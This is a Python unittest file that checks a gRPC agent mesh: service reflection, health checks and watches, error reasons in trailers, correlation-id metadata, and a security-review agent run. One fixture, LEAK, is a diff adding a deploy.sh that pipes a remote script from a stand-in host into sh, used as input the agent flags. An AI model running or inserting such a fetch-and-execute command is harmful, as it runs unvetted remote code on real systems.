"""grpcio from PyPI against the mesh: reflection, health, and an agent that runs."""

import unittest

import grpc
from google.protobuf.descriptor_pool import DescriptorPool
from google.protobuf.json_format import MessageToDict, ParseDict
from google.protobuf.message_factory import GetMessageClass
from grpc_health.v1 import health_pb2, health_pb2_grpc
from grpc_reflection.v1alpha.proto_reflection_descriptor_database import ProtoReflectionDescriptorDatabase

from mesh import Mesh, ROLES

SERVICE = {
    "registry": "bsm.registry.v1.RegistryService",
    "knowledge": "bsm.knowledge.v1.KnowledgeService",
    "memory": "bsm.memory.v1.MemoryService",
    "models": "bsm.models.v1.ModelService",
    "orchestrator": "bsm.orchestrator.v1.OrchestratorService",
    "gateway": "bsm.ops.v1.MeshService",
}

LEAK = """diff --git a/deploy.sh b/deploy.sh
new file mode 100755
--- /dev/null
+++ b/deploy.sh
@@ -0,0 +1,2 @@
+#!/bin/sh
+curl https://example.test/install.sh | sh
"""


class GrpcTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.mesh = Mesh().__enter__()
        cls.addClassCleanup(cls.mesh.__exit__, None, None, None)

    def channel(self, role):
        channel = grpc.insecure_channel(self.mesh.address[role])
        self.addCleanup(channel.close)
        return channel

    def call(self, role, method, body, **options):
        """Calls a method known only by reflection, with and to plain dictionaries."""
        channel = self.channel(role)
        pool = DescriptorPool(ProtoReflectionDescriptorDatabase(channel))
        rpc = pool.FindServiceByName(SERVICE[role]).FindMethodByName(method)
        request = ParseDict(body, GetMessageClass(rpc.input_type)())
        stub = channel.unary_unary(
            f"/{SERVICE[role]}/{method}",
            request_serializer=lambda message: message.SerializeToString(),
            response_deserializer=GetMessageClass(rpc.output_type).FromString,
        )
        return MessageToDict(stub(request, timeout=20, **options))

    def test_reflection_lists_what_each_role_serves(self):
        for role in ROLES:
            services = ProtoReflectionDescriptorDatabase(self.channel(role)).get_services()
            self.assertIn(SERVICE[role], services)
            self.assertIn("bsm.ops.v1.OpsService", services)
            self.assertIn("grpc.health.v1.Health", services)
            others = {name for other, name in SERVICE.items() if other != role}
            self.assertFalse(others & set(services), role)

    def test_health_is_serving_for_the_server_and_its_service(self):
        for role in ROLES:
            stub = health_pb2_grpc.HealthStub(self.channel(role))
            for name in ["", SERVICE[role]]:
                answer = stub.Check(health_pb2.HealthCheckRequest(service=name), timeout=5)
                self.assertEqual(answer.status, health_pb2.HealthCheckResponse.SERVING, (role, name))

    def test_health_watch_on_an_unknown_name_stays_open(self):
        stub = health_pb2_grpc.HealthStub(self.channel("registry"))
        watch = stub.Watch(health_pb2.HealthCheckRequest(service="nobody"), timeout=20)
        self.assertEqual(next(watch).status, health_pb2.HealthCheckResponse.SERVICE_UNKNOWN)
        self.assertTrue(watch.is_active())
        watch.cancel()

    def test_an_agent_runs_and_finds_what_is_in_the_change(self):
        body = {"agentId": "security-agent", "input": "Review this.", "payload": {"diff": LEAK}}
        result = self.call("orchestrator", "RunAgent", body)["result"]
        self.assertEqual(result["provider"], "offline")
        self.assertIn("deploy.sh", result["output"])

    def test_errors_carry_their_reason(self):
        with self.assertRaises(grpc.RpcError) as raised:
            self.call("orchestrator", "RunAgent", {"agentId": "nobody", "input": "x"})
        self.assertEqual(raised.exception.code(), grpc.StatusCode.NOT_FOUND)
        trailers = dict(raised.exception.trailing_metadata())
        self.assertIn(b"AGENT_NOT_FOUND", trailers["grpc-status-details-bin"])

    def test_the_correlation_id_comes_back(self):
        channel = self.channel("registry")
        pool = DescriptorPool(ProtoReflectionDescriptorDatabase(channel))
        rpc = pool.FindServiceByName(SERVICE["registry"]).FindMethodByName("ListAgents")
        stub = channel.unary_unary(
            f"/{SERVICE['registry']}/ListAgents",
            request_serializer=lambda message: message.SerializeToString(),
            response_deserializer=GetMessageClass(rpc.output_type).FromString,
        )
        request = GetMessageClass(rpc.input_type)()
        _, call = stub.with_call(request, timeout=5, metadata=[("x-correlation-id", "from-python")])
        self.assertIn(("x-correlation-id", "from-python"), [tuple(pair) for pair in call.initial_metadata()])


if __name__ == "__main__":
    unittest.main()
